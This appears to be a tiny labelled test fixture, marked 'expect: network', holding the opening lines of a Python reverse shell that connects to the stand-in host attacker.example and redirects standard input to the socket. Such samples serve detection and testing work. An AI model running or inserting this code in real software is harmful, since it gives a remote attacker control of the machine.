# expect: network
import socket, os
sock = socket.create_connection(("attacker.example", 9001))
os.dup2(sock.fileno(), 0)
